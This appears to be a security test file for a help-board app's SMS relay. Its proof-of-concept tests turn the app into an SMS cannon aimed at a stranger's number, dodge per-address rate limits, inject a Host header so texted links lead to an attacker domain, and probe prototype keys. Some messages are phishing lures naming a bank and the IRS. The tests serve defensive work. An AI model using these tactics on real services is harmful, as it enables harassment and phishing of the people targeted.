import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { RATE_LIMITS } from '../../src/common/contract/limits.ts';
import { paying } from '../paying.ts';
import { localPushService, type LocalPushService } from '../push-service.ts';
import { fakeGateway, type FakeGateway } from '../sms-gateway.ts';
import { testApp, type TestApp } from '../test-app.ts';

const VICTIM = '(415) 555-0199';
const VICTIM_E164 = '+14155550199';
let api: TestApp;
let gateway: FakeGateway;
let service: LocalPushService;
beforeEach(async () => {
  [gateway, service] = await Promise.all([fakeGateway(), localPushService()]);
  api = await testApp({ smsGateway: { url: gateway.url, token: 't' }, push: { serviceHosts: [service.host], subject: 'mailto:a@example.org' } });
});
afterEach(async () => {
  await api.settle();
  api.close();
  await Promise.all([gateway.close(), service.close()]);
});
const HELP = { title: 'Ride', description: 'x', category: 'Transportation', urgency: 'High', city: 'Salinas', contactName: 'M' };

describe('relay as an SMS cannon at any number', () => {
  it('help posts naming a stranger’s number, answered from one IPv6 /48: no proof of work, no cap per number', async () => {
    let texts = 0;
    for (let p = 0; p < 5; p++) {
      const net = `2001:db8:1:${p.toString(16)}`;
      const post = await api.post('/api/assistance-requests', { ...HELP, contactMethod: VICTIM }, { 'x-test-client-address': `${net}::1` });
      expect(post.status).toBe(201);
      const { id } = (await post.json()) as { id: string };
      for (let n = 0; n < RATE_LIMITS.messagePerPost.limit; n++) {
        const a = await api.post(
          '/api/assistance-responses',
          { responderName: 'Bank of America', responderContact: 'https://evil.example/login', message: `Your account is locked, log in at https://evil.example #${n}`, responseType: 'offer_help', requestId: id },
          { 'x-test-client-address': `${net}::${n + 2}` },
        );
        expect(a.status).toBe(201);
        texts++;
      }
    }
    await api.settle();
    console.log('texts to victim', gateway.to(VICTIM_E164).length, 'sample:', gateway.to(VICTIM_E164)[0]);
    expect(gateway.to(VICTIM_E164).length).toBe(texts);
  });
  it('lost-found records naming a stranger’s number, messaged through the no-JS form door (no proof of work)', async () => {
    let sent = 0;
    for (let p = 0; p < 3; p++) {
      const rec = (await (await api.post('/api/lost-found', { name: 'X', lastSeenCity: 'Fresno', contact: VICTIM }, { 'x-test-client-address': `192.0.2.${p}` })).json()) as { id: string };
      for (let n = 0; n < 10; n++) {
        const page = await (await api.app.request(`/api/lost-found/${rec.id}/page?lang=en`)).text();
        const token = /name="token" value="([^"]+)"/.exec(page)![1]!;
        const r = await api.app.request(`/api/lost-found/${rec.id}/messages`, {
          method: 'POST',
          headers: { 'content-type': 'application/x-www-form-urlencoded', 'x-test-client-address': `10.${p}.${n}.1` },
          body: new URLSearchParams({ form: 'message', lang: 'en', name: 'IRS', message: 'pay now at evil.example', token }).toString(),
        });
        if (r.status === 201) sent++;
      }
    }
    await api.settle();
    console.log('form-door texts', gateway.to(VICTIM_E164).length);
    expect(gateway.to(VICTIM_E164).length).toBe(sent);
    expect(sent).toBeGreaterThan(10);
  });
  it('the text’s “read it at” link follows the Host the attacker names (no PFIF_DOMAIN / SMS_INBOUND_URL)', async () => {
    const rec = (await (await api.post('/api/lost-found', { name: 'X', lastSeenCity: 'Fresno', contact: VICTIM })).json()) as { id: string };
    const r = await paying((h) =>
      api.app.request(`http://findhelp-login.evil.example/api/lost-found/${rec.id}/messages`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', 'x-test-client-address': '198.51.100.9', ...h },
        body: JSON.stringify({ name: 'A', message: 'I saw him' }),
      }),
    );
    expect(r.status).toBe(201);
    await api.settle();
    console.log('text:', gateway.to(VICTIM_E164)[0]);
    expect(gateway.to(VICTIM_E164)[0]).toContain('http://findhelp-login.evil.example/manage');
  });
  it('a prototype key as :board of /api/push/owners', async () => {
    for (const board of ['__proto__', 'constructor', 'toString', 'hasOwnProperty']) {
      const r = await api.app.request(`/api/push/owners/${board}/x`, { method: 'PUT', headers: { authorization: `Bearer ${'x'.repeat(43)}`, 'content-type': 'application/json' }, body: '{}' });
      console.log('board', board, r.status, (await r.text()).slice(0, 120));
    }
  });
});
